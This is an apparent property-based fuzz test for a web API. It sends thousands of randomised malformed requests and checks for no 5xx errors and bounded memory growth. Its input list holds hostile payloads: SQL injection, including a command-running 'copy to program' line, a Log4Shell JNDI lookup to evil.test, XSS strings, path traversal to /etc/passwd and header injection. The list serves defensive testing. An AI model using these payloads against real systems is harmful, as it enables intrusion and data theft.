import fc from 'fast-check'
import { afterAll, beforeAll, expect, test } from 'vitest'
import type { TestClient } from '../platform/testing/process.ts'
import { longOrShort } from '../platform/testing/size.ts'
import {
  personLine,
  seenLine,
  openBadInputStage,
  strike,
  type Headers,
  type BadInputStage,
} from '../platform/testing/bad-input.ts'

const REQUESTS = longOrShort(3_000, 1_000)
const CALLERS = 4
const MiB = 1024 * 1024
const GROWTH_BYTES_MAX = 400 * MiB
type Schema = { readonly $ref?: string; readonly properties?: Record<string, Schema> }
interface Operation {
  readonly parameters: readonly { readonly name: string; readonly in: string }[]
  readonly requestBody?: { readonly content: Record<string, { readonly schema: Schema }> }
}
interface OpenApi {
  readonly paths: Record<string, Record<string, Operation>>
  readonly components: { readonly schemas: Record<string, Schema> }
}
interface Target {
  readonly method: string
  readonly path: string
  readonly parameters: Operation['parameters']
  /** Names of a JSON body's fields; undefined for lines and for no body. */
  readonly fields: readonly string[] | undefined
}
let stage: BadInputStage
let targets: readonly Target[]
beforeAll(async () => {
  stage = await openBadInputStage()
  const { paths, components } = await stage.owner.call<OpenApi>('GET', '/openapi.json')
  const fieldsOf = ({ requestBody }: Operation): readonly string[] | undefined => {
    const schema = requestBody?.content['application/json']?.schema
    return (
      schema &&
      Object.keys(
        (schema.$ref ? components.schemas[schema.$ref.split('/').at(-1) ?? ''] : schema)
          ?.properties ?? {},
      )
    )
  }
  targets = Object.entries(paths).flatMap(([path, methods]) =>
    Object.entries(methods).map(([method, one]) => ({
      method: method.toUpperCase(),
      path,
      parameters: one.parameters,
      fields: fieldsOf(one),
    })),
  )
})
afterAll(() => strike(stage))

const fragments = [
  "' or '1'='1",
  "'; drop table events; --",
  '" union select * from vault --',
  "\\'; copy events to program 'id' --",
  '$1',
  '%',
  '_%',
  '{{7*7}}',
  '${jndi:ldap://evil.test/x}',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '../../../etc/passwd',
  '..\\..\\windows',
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\udfff\ud800',
  '\u202egnp.exe',
  '\ufeff',
  '\r\nset-cookie: x=1',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '1e999',
  '0x7f',
  '-0',
  '9'.repeat(400),
  '🦜'.repeat(200),
  'x'.repeat(70_000),
  '(a+)+$',
  'a'.repeat(50_000) + '@',
  '2026-03-29T03:30:00+14:00',
  '9999-12-31',
  '0000-00-00',
  '-271821-04-20',
  'owner',
  'north',
  'ana',
  'ctb',
  '2026-11-01',
  '2026-11-20T08:00:00Z',
  'Europe/Bucharest',
]
const text = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...fragments) },
  fc.string({ unit: 'binary', maxLength: 60 }),
)
const value: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: text },
  fc.double(),
  fc.constantFrom<unknown>(
    0,
    1,
    -1,
    2,
    12,
    2 ** 53,
    2 ** 63,
    1e308,
    null,
    true,
    [],
    {},
    [[[]]],
    { $ne: null },
    { toString: 'x' },
    { length: 1e9 },
  ),
  fc.array(text, { maxLength: 3 }),
)
const objectOf = (fields: readonly string[]) =>
  fc
    .tuple(
      fc.record(Object.fromEntries(fields.map((field) => [field, value])), { requiredKeys: [] }),
      fc.dictionary(text, value, { maxKeys: 1 }),
    )
    .map(([known, strange]) => ({ ...strange, ...known }))
const line = fc
  .tuple(
    fc.constantFrom(
      seenLine(),
      personLine('carol', 'Model', 'north', {
        password: 'Carol-1234!',
        conturi: { ctb: { username: 'carol_x' } },
      }),
    ),
    fc.nat(10),
    value,
  )
  .map(([good, place, bad]) => ({ ...good, [Object.keys(good)[place] ?? 'more']: bad }))
const lines = fc
  .array(line, { maxLength: 4 })
  .map((all) => all.map((one) => JSON.stringify(one)).join('\n'))
/** The same text as bytes that say something else. */
const encodings: readonly ((body: string) => Uint8Array)[] = [
  ...Array.from({ length: 6 }, () => (body: string) => Buffer.from(body)),
  (body) => Buffer.from(body, 'latin1'),
  (body) => Buffer.from(body, 'utf16le'),
  (body) => Buffer.from(body).subarray(0, body.length / 2),
  (body) => Buffer.concat([Buffer.from(body), Buffer.from([0xff, 0xc0, 0x80])]),
  (body) => Buffer.from(body.replaceAll('"', "'")),
  (body) => Buffer.from(`${'['.repeat(3000)}${body}`),
]
const contentTypes = [
  'application/json',
  'application/json',
  'application/json',
  'application/x-ndjson',
  'text/plain',
  'application/json; charset=utf-7',
  'multipart/form-data',
  ';',
]
const printable = (given: string): string =>
  given.replaceAll(/[^\x21-\x7e]/g, '').slice(0, 5_000) || 'x'
const headers: fc.Arbitrary<Headers> = fc.record(
  {
    'content-type': fc.constantFrom(...contentTypes),
    'idempotency-key': text.map(printable),
    'x-request-id': text.map(printable),
    'accept-language': text.map(printable),
    'x-after-position': fc.constantFrom('x', '-1', '1', '0000000000000000001', '9'.repeat(19)),
    'x-forwarded-for': text.map(printable),
  },
  { requiredKeys: ['content-type'] },
)
/** Escaped as a client does, or as one does that knows nothing of escapes. */
const part = fc.tuple(value, fc.nat(6)).map(([given, how]) => {
  const word = (typeof given === 'string' ? given : (JSON.stringify(given) ?? '')).slice(0, 3_000)
  return how === 0
    ? printable(word).replaceAll(/[#?/\\]/g, '_')
    : encodeURIComponent(word.toWellFormed())
})

interface Request {
  readonly target: Target
  readonly parts: readonly string[]
  readonly body: Uint8Array | undefined
  readonly headers: Headers
}
const request = (): fc.Arbitrary<Request> =>
  fc.constantFrom(...targets).chain((target) =>
    fc.record({
      target: fc.constant(target),
      parts: fc.array(part, {
        minLength: target.parameters.length,
        maxLength: target.parameters.length,
      }),
      body:
        target.method === 'GET'
          ? fc.constant(undefined)
          : fc
              .tuple(
                target.fields ? objectOf(target.fields).map((one) => JSON.stringify(one)) : lines,
                fc.constantFrom(...encodings),
              )
              .map(([body, encode]) => encode(body)),
      headers,
    }),
  )
function addressOf({ target, parts }: Request): string {
  const query: string[] = []
  let path = target.path
  for (const [i, { name, in: where }] of target.parameters.entries()) {
    if (where === 'path') path = path.replace(`{${name}}`, () => parts[i] || '-')
    else query.push(`${name}=${parts[i]}`)
  }
  return `${path}?${query.join('&')}`
}
/** Sends a request, without a login where it would end one. */
async function send(
  client: TestClient,
  one: Request,
): Promise<{ readonly status: number; readonly text: string }> {
  const sender = one.target.path === '/logout' ? stage.nobody : client
  const response = await sender.raw(one.target.method, addressOf(one), one.body, one.headers)
  return { status: response.status, text: await response.text() }
}
async function memory(): Promise<number> {
  return stage.owner.figure('process_resident_memory_bytes')
}

test('thousands of senseless requests: each is answered, none with a 5xx, and memory does not grow without bound', async () => {
  const callers = [stage.owner, stage.owner, stage.mara, stage.ana].slice(0, CALLERS)
  const before = await memory()
  const statuses: Record<number, number> = {}
  const wrong: string[] = []
  const all = fc.sample(request(), REQUESTS)
  const caller = async (client: TestClient) => {
    for (let one = all.pop(); one; one = all.pop()) {
      const { status, text: answer } = await send(client, one)
      statuses[status] = (statuses[status] ?? 0) + 1
      const refused =
        status >= 400 &&
        !/^\{"err":".*","code":"[a-zA-Z-]+\.\w+"(,"params":\{.*\})?\}$/s.test(answer)
      if (status >= 500 || refused)
        wrong.push(
          `${one.target.method} ${addressOf(one).slice(0, 300)} ${Buffer.from(one.body ?? [])
            .toString()
            .slice(0, 300)} → ${status}: ${answer.slice(0, 300)}`,
        )
    }
  }
  await Promise.all(callers.map(caller))
  expect(wrong, stage.server.output().slice(0, 4000)).toEqual([])
  for (const status of [200, 400, 403, 404, 422])
    expect(
      statuses[status] ?? 0,
      `some ${status} among ${JSON.stringify(statuses)}`,
    ).toBeGreaterThan(0)
  const grown = (await memory()) - before
  expect(grown, `${Math.round(grown / MiB)} MiB more`).toBeLessThan(GROWTH_BYTES_MAX)
  expect(await stage.owner.call('GET', '/getLocalStudios')).toContainEqual(
    expect.objectContaining({ studio: 'north' }),
  )
})
